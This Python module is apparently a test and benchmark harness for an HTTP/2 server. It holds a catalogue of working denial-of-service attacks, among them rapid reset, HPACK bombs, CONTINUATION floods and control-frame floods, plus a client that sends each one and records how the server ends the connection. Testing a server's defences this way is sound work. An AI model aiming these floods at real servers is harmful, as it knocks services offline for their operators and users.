# SPDX-License-Identifier: BSD-3-Clause
"""Attacks on an HTTP/2 server, one client each: the catalogue that tests and the bench share. Standard library only.

An Attack says what is sent first and what then, piece by piece, without end. An Attacker sends it as fast as it is taken
and notes how the connection ended. The paths are /small, /large and /echo, unless others are given.
"""

import select
import socket
import ssl
import struct
import time

from lib.h2frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR, GOAWAY, HEADERS, INITIAL_WINDOW,
                          LARGE, PADDED, PING, PREFACE, PRIORITY, PRIORITY_UPDATE, PROTOCOL_ERROR, SETTINGS, STREAM_CLOSED,
                          TABLE_SIZE, frame, reset, setting, update)


def literal(name, value):
    """A field that is not indexed; name: an index of the static table below 15, or bytes."""
    head = bytes([name]) if isinstance(name, int) else b"\0" + bytes([len(name)]) + name
    return head + bytes([len(value)]) + value


class Peer:
    """The client's side of a connection, as an Attack sees it."""

    def __init__(self, secure=False, paths=None):
        self.scheme = b"\x87" if secure else b"\x86"
        self.paths = paths or {}
        self.next_id = 1

    def fields(self, path, method=b"\x82"):
        return method + self.scheme + literal(4, self.paths.get(path, path).encode()) + literal(1, b"localhost")

    def take_id(self):
        stream, self.next_id = self.next_id, self.next_id + 2
        return stream

    def get(self, path="/small", stream=None, more=b""):
        return frame(HEADERS, END_HEADERS | END_STREAM, stream or self.take_id(), self.fields(path) + more)

    def post(self, path="/echo", stream=None, more=b""):
        return frame(HEADERS, END_HEADERS, stream or self.take_id(), self.fields(path, b"\x83") + more)

    def connect(self, path="/ws"):
        return frame(HEADERS, END_HEADERS, self.take_id(), self.fields(path, literal(2, b"CONNECT")) +
                     literal(b":protocol", b"websocket") + literal(b"sec-websocket-version", b"13"))


class Attack:
    """ends: the code of GOAWAY that Tine sends, or several that it may be. reads: the client takes what it is sent (else it
    may not see the GOAWAY). settings: its own. acks: it acknowledges the server's."""

    def __init__(self, name, more, begin=None, *, ends=ENHANCE_YOUR_CALM, reads=True, settings=b"", acks=True):
        self.name, self.begin, self.more = name, begin or (lambda p: b""), more
        self.ends = {f"goaway {code}" for code in ([ends] if isinstance(ends, int) else ends)} | (set() if reads else {"reset"})
        self.reads, self.settings, self.acks = reads, settings, acks

    def __repr__(self):
        return self.name


def repeated(raw):
    """The same frame again and again, in pieces of some kilobytes."""
    piece = raw * max(1, 4096 // len(raw))
    return lambda p: piece


def each(make, n=50):
    return lambda p: b"".join(make(p) for _ in range(n))


def rapid_reset(p):
    stream = p.next_id
    return p.get() + reset(stream)


def rapid_websocket(p):
    stream = p.next_id
    return p.connect() + reset(stream)


def window_overflow(p):
    stream = p.next_id
    return p.post() + update(stream, LARGE)


def window_of_nothing(p):
    stream = p.next_id
    return p.post() + update(stream, 0)


def wrong_length(p):
    stream = p.next_id
    return p.post(more=literal(b"content-length", b"1")) + frame(DATA, END_STREAM, stream, b"12")


def trailers_that_end_nothing(p):
    stream = p.next_id
    return p.post() + frame(HEADERS, END_HEADERS, stream, literal(b"x", b"y"))


def bomb(p):
    """The head puts 4,000 bytes into the table and names them 16,000 times by one byte each."""
    large = b"\x40\x01x\x7f" + bytes([0xa0 - 127 + 0x80 & 0x7f | 0x80, 0x1e]) # 127 + 33 + 30 * 128 = 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, p.take_id(), p.fields("/small") + large + b"y" * 4000 + b"\xbe" * 12000)


def many_bombs(p):
    """Each just below what ends the connection at once: 200,000 bytes by 50."""
    stream = p.take_id()
    if stream == 1:
        return frame(HEADERS, END_HEADERS | END_STREAM, 1, p.fields("/small") + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000)
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, p.fields("/small") + b"\xbe" * 50)


def table_sizes(p):
    """The size of the table told again and again in front of the fields (RFC 7541 6.3)."""
    return frame(HEADERS, END_HEADERS | END_STREAM, p.take_id(), b"\x20\x3f\xe1\x1f" * 4000 + p.fields("/small"))


def windows_to_and_fro(p):
    return (frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 0)) + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 1))) * 20


HELD = setting(INITIAL_WINDOW, 0) # no window for any stream
UNREAD = setting(INITIAL_WINDOW, LARGE)

ATTACKS = [
    Attack("window-update-connection", repeated(update(0, 1))),
    Attack("window-update-stream", repeated(update(1, 1)), lambda p: p.get("/large"), settings=HELD),
    Attack("window-update-closed", repeated(update(1, 1)), lambda p: p.get()),
    Attack("empty-data", repeated(frame(DATA, 0, 1)), lambda p: p.post()),
    # Beyond its window, and with windows that overflow: newer nghttp2 makes of these errors of the stream one of the
    # connection (RFC 9113 5.4.1).
    Attack("padding", repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))), lambda p: p.post(),
           ends=(ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR)),
    Attack("data-byte-by-byte", repeated(frame(DATA, 0, 1, b"x")), lambda p: p.post()),
    Attack("continuation", repeated(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))),
           lambda p: frame(HEADERS, END_STREAM, 1, p.fields("/small")), acks=False), # nothing may stand between them
    Attack("continuation-empty", repeated(frame(CONTINUATION, 0, 1)), lambda p: frame(HEADERS, END_STREAM, 1, p.fields("/small")),
           acks=False),
    Attack("continuation-of-trailers", repeated(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))),
           lambda p: p.post() + frame(HEADERS, END_STREAM, 1, literal(b"x", b"y")), acks=False),
    Attack("hpack-bomb", bomb),
    Attack("hpack-many-bombs", each(many_bombs, 10), ends=(ENHANCE_YOUR_CALM, PROTOCOL_ERROR)), # or too many at a time
    Attack("settings", repeated(frame(SETTINGS))),
    Attack("settings-entries", repeated(frame(SETTINGS, 0, 0, setting(0x99, 1) * 2000))),
    Attack("settings-windows", windows_to_and_fro, lambda p: b"".join(p.get("/large") for _ in range(90)), settings=HELD),
    Attack("settings-table", repeated(frame(SETTINGS, 0, 0, setting(TABLE_SIZE, 0) + setting(TABLE_SIZE, 65536)))),
    Attack("ping", repeated(frame(PING, 0, 0, b"12345678"))),
    Attack("ping-ack", repeated(frame(PING, ACK, 0, b"12345678"))),
    Attack("ping-unread", repeated(frame(PING, 0, 0, b"12345678")), lambda p: p.get("/large") + update(0, LARGE - 65535),
           reads=False, settings=UNREAD),
    Attack("priority", repeated(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10"))),
    Attack("priority-update", repeated(frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"))),
    Attack("unknown-frames", repeated(frame(0x42, 0, 0, b"x"))),
    Attack("unknown-large-frames", repeated(frame(0x42, 0, 0, bytes(16384)))),
    Attack("goaway", repeated(frame(GOAWAY, 0, 0, bytes(8))), lambda p: p.get("/large"), settings=HELD), # and yet does not go
    Attack("rapid-reset", each(rapid_reset)),
    Attack("rapid-websocket", each(rapid_websocket)),
    Attack("reset-closed", repeated(reset(1)), lambda p: p.get()),
    Attack("headers-closed", lambda p: b"".join(p.get(stream=n) for n in range(1, 101, 2)),
           lambda p: b"".join(p.get() for _ in range(90)), ends=(ENHANCE_YOUR_CALM, STREAM_CLOSED)), # it had ended them itself
    # Also too many at a time, where the server has not come round to resetting them yet.
    Attack("made-you-reset-overflow", each(window_overflow), ends=(ENHANCE_YOUR_CALM, PROTOCOL_ERROR, FLOW_CONTROL_ERROR)),
    Attack("made-you-reset-zero", each(window_of_nothing), ends=PROTOCOL_ERROR),
    Attack("made-you-reset-length", each(wrong_length), ends=(ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
    Attack("made-you-reset-trailers", each(trailers_that_end_nothing), ends=(ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
    Attack("refused-streams", each(lambda p: p.post()), acks=False),
    Attack("refused-streams-unread", each(lambda p: p.post()), lambda p: p.get("/large") + update(0, LARGE - 65535), reads=False,
           settings=UNREAD, acks=False),
]


class Outcome:
    """goaway: the code of the last one, or None. how: "goaway N", "closed", "reset" or "open"."""

    def __init__(self):
        self.sent = self.received = 0
        self.goaway, self.how, self.seconds = None, "open", 0.0


class Attacker:
    def __init__(self, address, attack, *, secure=False, paths=None, rcvbuf=None):
        self.attack, self.peer, self.outcome = attack, Peer(secure, paths), Outcome()
        self.socket = socket.socket()
        if rcvbuf or not attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf or 4096)
        self.socket.connect(address)
        if secure:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket)
        self.socket.setblocking(False)
        self.buffer, self.acked = b"", False
        self.todo = PREFACE + frame(SETTINGS, 0, 0, attack.settings) + attack.begin(self.peer)

    def run(self, seconds, most=1 << 40, beside=None):
        """Attacks until the connection ends, or so long, or so many bytes; `beside` is called now and then. Then, where
        nothing is read meanwhile, reads what there is for as long again."""
        begin = time.monotonic()
        end, o, pieces = begin + seconds, self.outcome, 0
        try:
            while o.goaway is None and time.monotonic() < end and o.sent < most:
                if not self._send() and not self.attack.reads:
                    break # nobody takes any more: what follows is up to the server
                if self.attack.reads:
                    self._receive()
                pieces += 1
                if beside and pieces % 64 == 0:
                    beside()
            o.seconds = time.monotonic() - begin
            while not self.attack.reads and o.goaway is None and time.monotonic() < end + seconds:
                select.select([self.socket], [], [], 0.05)
                self._receive()
        except ConnectionError:
            self._last()
            o.how = "reset"
        except EOFError:
            o.how = "closed"
        o.seconds = o.seconds or time.monotonic() - begin
        if o.goaway is not None:
            o.how = f"goaway {o.goaway}"
        return o

    def close(self):
        self.socket.close()

    def _send(self):
        """False: nothing was taken for a while."""
        if not self.todo:
            self.todo = self.attack.more(self.peer)
        try:
            n = self.socket.send(self.todo)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            n = 0
        except ConnectionError: # what it said before may still be there
            self._last()
            raise
        self.outcome.sent += n
        self.todo = self.todo[n:]
        if n:
            return True
        reading = [self.socket] if self.attack.reads else []
        return any(select.select(reading, [self.socket], [], 0.5)[:2])

    def _receive(self):
        """All that is there."""
        while True:
            try:
                data = self.socket.recv(1 << 18)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except ssl.SSLError as e:
                raise ConnectionResetError from e
            if not data:
                raise EOFError
            self.outcome.received += len(data)
            self.buffer += data
            self._frames()

    def _last(self):
        try:
            self._receive()
        except (EOFError, OSError):
            pass

    def _frames(self):
        """Takes whole frames out of the buffer."""
        at = 0
        while len(self.buffer) >= at + 9:
            n, kind, flags = int.from_bytes(self.buffer[at:at + 3], "big"), self.buffer[at + 3], self.buffer[at + 4]
            if len(self.buffer) < at + 9 + n:
                break
            if kind == GOAWAY:
                self.outcome.goaway = struct.unpack(">I", self.buffer[at + 13:at + 17])[0]
            elif kind == SETTINGS and not flags & ACK and self.attack.acks and not self.acked:
                self.acked = True
                self.todo += frame(SETTINGS, ACK)
            at += 9 + n
        self.buffer = self.buffer[at:]
